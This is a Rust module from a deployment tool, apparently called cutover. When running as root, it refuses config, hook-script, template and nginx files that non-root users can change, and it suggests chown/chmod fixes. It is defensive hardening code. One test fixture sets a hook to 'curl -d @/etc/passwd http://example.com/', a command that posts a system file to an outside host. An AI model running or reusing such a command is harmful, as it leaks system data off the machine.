//! Trust boundaries: the files cutover takes commands or nginx syntax from must be no easier to change than
//! cutover itself.
//!
//! cutover usually runs as root (a CodeDeploy hook, CI over SSH with sudo, a boot unit), and it runs what its
//! files say: the hooks in the config and the scripts they name, the nginx binary and reload command, the
//! template it renders into nginx's config, the environment file it gives the app. A local user who can change
//! one of those files gets root at the next deploy. So, as sudo, cron, OpenSSH (`StrictModes`) and systemd do,
//! cutover refuses such files when it runs as root (exit 2, before anything runs, with the `chown`/`chmod` that
//! fixes each), and warns about them otherwise; `--insecure-config` turns the refusal into a warning.
//!
//! What is checked ([`subjects`]): the config file; `app.env_file`; `nginx.template`; every script file a hook
//! names (see [`script`]); `nginx.binary` and the `nginx.reload` command when given as paths. Not `app.start`:
//! it names the release being deployed, which the deploy pipeline writes, and it is `app.user` that keeps the
//! app from running as root. The rule itself is in [`rule`].

pub mod rule;
pub mod script;

use std::path::{Path, PathBuf};

use anyhow::{Context, Result};

use crate::config::{Config, Reload};
use crate::exit;
use rule::{Finding, Resolved};

/// A file cutover takes commands or nginx syntax from, and the config key that names it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Subject {
    pub role: String,
    pub path: PathBuf,
}

/// What one [`Subject`] turned out to be.
#[derive(Debug)]
pub struct Report {
    pub subject: Subject,
    pub outcome: Outcome,
}

#[derive(Debug)]
pub enum Outcome {
    /// Not there (an env file or template not written yet): nothing to trust.
    Missing,
    /// The path could not be walked (a directory this user cannot search, a symlink loop).
    Unreadable(String),
    Checked {
        resolved: Resolved,
        findings: Vec<Finding>,
    },
}

/// The users whose files cutover trusts: root and the user it runs as.
pub fn trusted(euid: u32) -> Vec<u32> {
    if euid == 0 {
        vec![0]
    } else {
        vec![0, euid]
    }
}

/// Every file the config makes cutover take commands or nginx syntax from (see the module docs).
pub fn subjects(config: &Config) -> Vec<Subject> {
    let abs = |p: &Path| std::path::absolute(p).unwrap_or_else(|_| p.to_path_buf());
    let mut out = vec![Subject { role: "config".into(), path: abs(&config.path) }];
    if let Some(p) = &config.app.env_file {
        out.push(Subject { role: "app.env_file".into(), path: p.clone() });
    }
    if let Some(p) = &config.nginx.template {
        out.push(Subject { role: "nginx.template".into(), path: p.clone() });
    }
    // Hooks run in app.workdir, else in cutover's own working directory.
    let cwd = std::env::current_dir().unwrap_or_else(|_| PathBuf::from("/"));
    let hook_dir = config.app.workdir.clone().unwrap_or_else(|| cwd.clone());
    // A script a hook names but that is not there is not run either; only what exists can be judged.
    let mut script = |role: String, p: PathBuf| {
        if p.exists() {
            out.push(Subject { role, path: p });
        }
    };
    let h = &config.hooks;
    for (name, line) in [
        ("before_start", &h.before_start),
        ("after_healthy", &h.after_healthy),
        ("after_switch", &h.after_switch),
        ("after_rollback", &h.after_rollback),
        ("on_failure", &h.on_failure),
    ] {
        for p in line.iter().flat_map(|l| script::in_shell_line(l, &hook_dir)) {
            script(format!("hooks.{name}"), p);
        }
    }
    if config.nginx.binary.contains('/') {
        script("nginx.binary".into(), cwd.join(&config.nginx.binary));
    }
    if let Reload::Command(argv) = &config.nginx.reload {
        let words: Vec<Option<String>> = argv.iter().cloned().map(Some).collect();
        for p in script::in_argv(&words, &cwd) {
            script("nginx.reload".into(), p);
        }
    }
    out
}

/// Walk `subject` and judge it for `trusted` users.
pub fn inspect(subject: Subject, trusted: &[u32]) -> Report {
    let outcome = match rule::resolve(&subject.path) {
        Ok(resolved) => {
            let findings = rule::judge(trusted, &resolved);
            Outcome::Checked { resolved, findings }
        }
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Outcome::Missing,
        Err(e) => Outcome::Unreadable(e.to_string()),
    };
    Report { subject, outcome }
}

/// All of the config's [`subjects`], judged for the user cutover runs as.
pub fn inspect_all(config: &Config, euid: u32) -> Vec<Report> {
    subjects(config).into_iter().map(|s| inspect(s, &trusted(euid))).collect()
}

/// Refuse (exit 2) to go on as root with files others could change; otherwise, or with `insecure`, warn.
/// Called after the config is parsed and before anything runs.
pub fn enforce(config: &Config, insecure: bool) -> Result<()> {
    let euid = nix::unistd::geteuid().as_raw();
    let reports = inspect_all(config, euid);
    let bad: Vec<&Report> = reports.iter().filter(|r| !r.ok()).collect();
    if bad.is_empty() {
        return Ok(());
    }
    let to = owner_for_fix(euid);
    if euid == 0 && !insecure {
        let lines: Vec<String> = bad.iter().map(|r| format!("  {}; fix: {}", r.detail(), r.fix(&to))).collect();
        return Err(exit::usage(format!(
            "refusing to run as root: users other than root can change these files, and cutover takes commands \
             or nginx config from them:\n{}\nfix them as shown, or pass --insecure-config to run anyway",
            lines.join("\n")
        )));
    }
    for r in bad {
        if euid == 0 {
            eprintln!("cutover: warning: --insecure-config: using it anyway: {}; fix: {}", r.detail(), r.fix(&to));
        } else {
            eprintln!("cutover: warning: {}; fix: {} (as root, cutover refuses this)", r.detail(), r.fix(&to));
        }
    }
    Ok(())
}

/// The owner a `chown` fix names: root when cutover runs as root, else the user it runs as, so that the fix
/// does not take a user's own files away from them.
pub fn owner_for_fix(euid: u32) -> String {
    if euid == 0 {
        "root".into()
    } else {
        user_name(euid)
    }
}

/// `nobody`, or the number when the uid has no name.
pub fn user_name(uid: u32) -> String {
    match nix::unistd::User::from_uid(nix::unistd::Uid::from_raw(uid)) {
        Ok(Some(u)) => u.name,
        _ => uid.to_string(),
    }
}

impl Report {
    pub fn ok(&self) -> bool {
        match &self.outcome {
            Outcome::Missing => true,
            Outcome::Unreadable(_) => false,
            Outcome::Checked { findings, .. } => findings.is_empty(),
        }
    }

    /// `config /srv/cutover.toml` and, for a symlink, where it leads.
    fn head(&self) -> String {
        let s = &self.subject;
        match &self.outcome {
            Outcome::Checked { resolved, .. } if resolved.target != s.path => {
                format!("{} {} (-> {})", s.role, s.path.display(), resolved.target.display())
            }
            _ => format!("{} {}", s.role, s.path.display()),
        }
    }

    /// One line: the file and what is wrong with it, or its owner and mode when nothing is.
    pub fn detail(&self) -> String {
        match &self.outcome {
            Outcome::Missing => format!("{} does not exist", self.head()),
            Outcome::Unreadable(e) => format!("{}: could not inspect it: {e}", self.head()),
            Outcome::Checked { resolved, findings } if findings.is_empty() => {
                format!("{} (owner {}, mode {:04o})", self.head(), user_name(resolved.meta.uid), resolved.meta.perm())
            }
            Outcome::Checked { resolved, findings } => {
                let mut parts = Vec::new();
                let mut own = String::new();
                for f in findings {
                    if f.path == resolved.target {
                        own = f.problem(&user_name);
                    } else {
                        let what = match f.kind {
                            rule::Kind::Dir => "directory",
                            rule::Kind::Link => "symlink",
                            rule::Kind::File => "file",
                        };
                        parts.push(format!("{what} {} {}", f.path.display(), f.problem(&user_name)));
                    }
                }
                match (own.is_empty(), parts.is_empty()) {
                    (false, true) => format!("{} {own}", self.head()),
                    (false, false) => format!("{} {own}; {}", self.head(), parts.join("; ")),
                    (true, _) => format!("{}: {}", self.head(), parts.join("; ")),
                }
            }
        }
    }

    /// The commands that fix it, `&&`-joined; empty when nothing needs fixing.
    pub fn fix(&self, owner: &str) -> String {
        match &self.outcome {
            Outcome::Missing => String::new(),
            Outcome::Unreadable(_) => {
                format!("make {} readable by this user, or point the config elsewhere", self.subject.path.display())
            }
            // In the order `detail` names them: the file itself first.
            Outcome::Checked { resolved, findings } => {
                let (own, rest): (Vec<&Finding>, Vec<&Finding>) =
                    findings.iter().partition(|f| f.path == resolved.target);
                own.iter().chain(&rest).map(|f| f.fix(owner)).collect::<Vec<_>>().join(" && ")
            }
        }
    }
}

/// Write a new file with exactly `mode` (not widened by the umask, nor kept from a file it replaces), so that
/// what `init` writes is no easier to read or change than it must be. The content goes into a temp file that
/// already has `mode`, which is renamed over `path`: a symlink at `path` is replaced, never followed.
pub fn write_with_mode(path: &Path, bytes: &[u8], mode: u32) -> Result<()> {
    use std::io::Write;
    use std::os::unix::fs::PermissionsExt;
    let dir = path.parent().filter(|p| !p.as_os_str().is_empty()).unwrap_or(Path::new("."));
    let mut tmp = tempfile::Builder::new()
        .prefix(".cutover-new.")
        .tempfile_in(dir)
        .with_context(|| format!("could not create a temp file in {}", dir.display()))?;
    tmp.as_file()
        .set_permissions(std::fs::Permissions::from_mode(mode))
        .with_context(|| format!("could not set mode {mode:04o} for {}", path.display()))?;
    tmp.write_all(bytes).with_context(|| format!("could not write {}", path.display()))?;
    tmp.as_file().sync_all().with_context(|| format!("could not fsync {}", path.display()))?;
    tmp.persist(path).map_err(|e| e.error).with_context(|| format!("could not write {}", path.display()))?;
    Ok(())
}

/// For `check`: the upstream file (or, before it exists, its directory), which root's nginx master includes.
/// Judged for root alone as well as for the running user: the second value is a warning when only the user
/// cutover runs as (not root) could change it, which a non-root deploy account needs but should know.
pub fn upstream(config: &Config, euid: u32) -> (Report, Option<String>) {
    let file = &config.nginx.upstream_file;
    let path = if file.exists() { file.clone() } else { file.parent().unwrap_or(Path::new("/")).to_path_buf() };
    let role = if file.exists() { "upstream file" } else { "upstream dir" };
    let subject = Subject { role: role.into(), path };
    let report = inspect(subject.clone(), &trusted(euid));
    let warning = match inspect(subject, &[0]) {
        r @ Report { outcome: Outcome::Checked { .. }, .. } if euid != 0 && report.ok() && !r.ok() => Some(format!(
            "{}: root's nginx loads it, so whoever runs as {} can change nginx's config; fine for a deploy account \
             that only deploys",
            r.detail(),
            user_name(euid)
        )),
        _ => None,
    };
    (report, warning)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn subjects_are_the_config_and_the_files_it_takes_commands_from() {
        let d = tempfile::tempdir().unwrap();
        let dir = d.path();
        for f in ["hook.sh", "x.sh", "reload.sh", "nginx"] {
            std::fs::write(dir.join(f), "").unwrap();
        }
        let text = format!(
            r#"[app]
name = "shop"
start = "/srv/shop/{{{{release}}}}/run --port {{{{port}}}}"
env_file = "app.env"
[ports]
pool = [8081, 8082]
[nginx]
upstream_file = "u.conf"
template = "t.tera"
binary = "{0}/nginx"
reload = ["sh", "{0}/reload.sh"]
[hooks]
before_start = "{0}/hook.sh --now"
after_switch = "sh {0}/x.sh && {0}/missing.sh"
on_failure = "curl -d @/etc/passwd http://example.com/"
"#,
            dir.display()
        );
        let c = Config::parse(&text, &dir.join("cutover.toml")).unwrap();
        let got: Vec<(String, PathBuf)> = subjects(&c).into_iter().map(|s| (s.role, s.path)).collect();
        assert_eq!(
            got,
            [
                ("config".to_string(), dir.join("cutover.toml")),
                ("app.env_file".into(), dir.join("app.env")),
                ("nginx.template".into(), dir.join("t.tera")),
                ("hooks.before_start".into(), dir.join("hook.sh")),
                ("hooks.after_switch".into(), dir.join("x.sh")),
                ("nginx.binary".into(), dir.join("nginx")),
                ("nginx.reload".into(), dir.join("reload.sh")),
            ]
        );
    }

    #[test]
    fn trusted_users_are_root_and_the_running_user() {
        assert_eq!(trusted(0), [0]);
        assert_eq!(trusted(1000), [0, 1000]);
    }
}
